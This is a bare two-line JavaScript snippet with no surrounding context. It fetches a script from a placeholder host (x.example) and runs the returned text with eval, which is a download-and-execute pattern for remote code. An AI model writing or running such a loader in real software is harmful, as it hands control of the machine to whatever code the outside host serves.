const code = await (await fetch('https://x.example/p.js')).text();
eval(code);
